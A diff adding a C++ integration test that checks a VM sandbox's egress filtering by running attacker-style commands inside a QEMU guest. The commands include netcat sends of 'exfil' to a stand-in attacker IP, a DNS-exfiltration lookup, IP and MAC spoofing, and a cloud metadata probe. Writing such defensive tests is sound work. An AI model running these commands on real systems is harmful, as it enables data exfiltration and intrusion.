@@ -1,0 +1,159 @@
+// The egress threat classes driven from a real guest VM as root: the QEMU
+// guest's virtio-net is the slot's tap, its commands run through the guest
+// agent, and the busybox userland does what an attacker's shell would.
+// As everywhere, a case passes only if the attacker's log is empty.
+#include <fmt/format.h>
+#include <gtest/gtest.h>
+#include <unistd.h>
+
+#include "hypervisor/qemu/qemu.h"
+#include "node/agent_client.h"
+#include "node/machine.h"
+#include "node/testing/agent_harness.h"
+#include "tests/integration/egress/world.h"
+#include "tests/integration/guest_env.h"
+
+namespace vessel::egress_test {
+namespace {
+
+namespace asio = boost::asio;
+using namespace std::chrono_literals;
+using node::testing::runFor;
+
+class EgressVmTest : public ::testing::Test {
+ protected:
+  static void SetUpTestSuite() {
+    if (::geteuid() != 0) return;
+    auto w = EgressWorld::create();
+    ASSERT_TRUE(w.ok()) << w.error().message();
+    world_ = w->release();
+    auto g = world_->addVmGuest("sb-vm", allowlist(1, {"a.test"}));
+    ASSERT_TRUE(g.ok()) << g.error().message();
+    guest_ = *g;
+    io_ = new asio::io_context();
+    dir_ = new testing::ScratchDir();
+    hv_ = new hypervisor::qemu::QemuHypervisor({});
+    hypervisor::MachineSpec spec = testing::minimalSpec("egr" + std::to_string(::getpid()), *dir_);
+    spec.tap_fd = guest_->slot->tapFd();
+    auto m = runFor(*io_, node::bootMachine(*hv_, spec, node::Clock::now() + 90s), 120s);
+    ASSERT_TRUE(m.ok()) << m.error().message();
+    machine_ = new node::Machine(std::move(*m));
+    client_ = new std::shared_ptr<node::AgentClient>(node::AgentClient::create(
+        std::move(machine_->vm->agentChannel()), std::move(machine_->leftover), "egress-vm"));
+    // What a template's network setup does: the same address in every VM.
+    auto r =
+        sh("ip link set eth0 up && ip addr add 172.16.0.2/30 dev eth0 && "
+           "ip route add default via 172.16.0.1");
+    ASSERT_TRUE(r.ok() && r->exit.code == 0) << (r.ok() ? r->err : r.error().message());
+  }
+  static void TearDownTestSuite() {
+    if (client_) (*client_)->close();
+    if (machine_) EXPECT_TRUE(runFor(*io_, machine_->vm->stop(), 30s).ok());
+    delete client_;
+    delete machine_;
+    delete hv_;
+    delete dir_;
+    delete io_;
+    delete world_;
+  }
+  static Result<node::ExecResult> sh(const std::string& cmd) {
+    node::ExecSpec s;
+    s.shell = cmd;
+    s.user = "root";
+    s.timeout = 30s;
+    return runFor(*io_, (*client_)->run(s), 60s);
+  }
+  static std::string out(const std::string& cmd) {
+    auto r = sh(cmd);
+    return r.ok() ? r->out + r->err : "FAILED " + r.error().message();
+  }
+  void SetUp() override {
+    if (::geteuid() != 0) GTEST_SKIP() << "needs root";
+    ASSERT_NE(client_, nullptr) << "the guest did not boot";
+    ASSERT_TRUE(world_->setPolicy(*guest_, allowlist(++generation_, {"a.test"})).ok());
+    world_->clearLogs();
+  }
+
+  static EgressWorld* world_;
+  static Guest* guest_;
+  static asio::io_context* io_;
+  static testing::ScratchDir* dir_;
+  static hypervisor::qemu::QemuHypervisor* hv_;
+  static node::Machine* machine_;
+  static std::shared_ptr<node::AgentClient>* client_;
+  static uint64_t generation_;
+};
+
+EgressWorld* EgressVmTest::world_ = nullptr;
+Guest* EgressVmTest::guest_ = nullptr;
+asio::io_context* EgressVmTest::io_ = nullptr;
+testing::ScratchDir* EgressVmTest::dir_ = nullptr;
+hypervisor::qemu::QemuHypervisor* EgressVmTest::hv_ = nullptr;
+node::Machine* EgressVmTest::machine_ = nullptr;
+std::shared_ptr<node::AgentClient>* EgressVmTest::client_ = nullptr;
+uint64_t EgressVmTest::generation_ = 1;
+
+const char* kGetA =
+    "printf 'GET / HTTP/1.1\\r\\nHost: a.test\\r\\nConnection: close\\r\\n\\r\\n' | "
+    "nc -w 5 203.0.113.66 80";
+
+TEST_F(EgressVmTest, HostDecidesNotTheDestinationAddress) {
+  // Sent to X's address, named a.test: the gateway dials a.test's own answer.
+  std::string o = out(kGetA);
+  EXPECT_NE(o.find("hello from a.test"), std::string::npos) << o;
+  EXPECT_EQ(world_->attackerLog(), "") << o;
+}
+
+TEST_F(EgressVmTest, DnsAnswersAllowedNamesOnlyAndNeverForwardsOthers) {
+  std::string o = out("nslookup a.test 172.16.0.1");
+  EXPECT_NE(o.find("198.51.100.10"), std::string::npos) << o;
+  o += out("nslookup c2VjcmV0.x.test 172.16.0.1; nslookup a.test 203.0.113.66");
+  EXPECT_EQ(world_->attackerLog(), "") << o;
+}
+
+TEST_F(EgressVmTest, UdpIcmpAndOtherPortsAreDropped) {
+  std::string o =
+      out("ping -c 2 -W 1 203.0.113.66; echo exfil | nc -u -w 1 203.0.113.66 53; "
+          "echo exfil | nc -u -w 1 203.0.113.66 123; echo SSH-2.0-x | nc -w 3 203.0.113.66 22; "
+          "echo x | nc -w 3 198.51.100.10 25");
+  EXPECT_EQ(world_->attackerLog(), "") << o;
+}
+
+TEST_F(EgressVmTest, SpoofedSourceAndMacAreDroppedEvenInFullMode) {
+  // Full mode would let this request reach X; only the slot's identity
+  // rules stand between a spoofed frame and the attacker.
+  ASSERT_TRUE(world_->setPolicy(*guest_, fullMode(++generation_)).ok());
+  auto to_x = [](const char* path) {
+    return "printf 'GET /" + std::string(path) +
+           " HTTP/1.1\\r\\nHost: x.test\\r\\n\\r\\n' | nc -w 3 203.0.113.66 80";
+  };
+  std::string control = out(to_x("control"));
+  EXPECT_NE(world_->attackerLog().find("/control"), std::string::npos) << control;
+  world_->clearLogs();
+  std::string o =
+      out("ip addr add 172.16.0.6/32 dev eth0 && ping -c 2 -W 1 -I 172.16.0.6 203.0.113.66; "
+          "ip addr del 172.16.0.6/32 dev eth0");
+  o +=
+      out("ip link set eth0 down && ip link set eth0 address 06:00:ac:10:00:09 && "
+          "ip link set eth0 up && ip route add default via 172.16.0.1; " +
+          to_x("macspoof") +
+          "; ip link set eth0 down; ip link set eth0 address 06:00:ac:10:00:02; "
+          "ip link set eth0 up; ip route add default via 172.16.0.1");
+  EXPECT_EQ(world_->attackerLog(), "") << o;
+  // And the guest's real identity still works.
+  std::string back = out(to_x("back"));
+  EXPECT_NE(world_->attackerLog().find("/back"), std::string::npos) << back;
+}
+
+TEST_F(EgressVmTest, InwardAddressesAreRefusedInFullMode) {
+  ASSERT_TRUE(world_->setPolicy(*guest_, fullMode(++generation_)).ok());
+  std::string o =
+      out("printf 'GET /latest/meta-data/ HTTP/1.1\\r\\nHost: 169.254.169.254\\r\\n\\r\\n' | "
+          "nc -w 3 169.254.169.254 80; "
+          "printf 'GET / HTTP/1.1\\r\\nHost: rebind.test\\r\\n\\r\\n' | nc -w 3 203.0.113.66 80; "
+          "echo x | nc -w 3 10.1.2.3 443");
+  EXPECT_EQ(world_->attackerLog(), "") << o;
+}
+
+}  // namespace
+}  // namespace vessel::egress_test
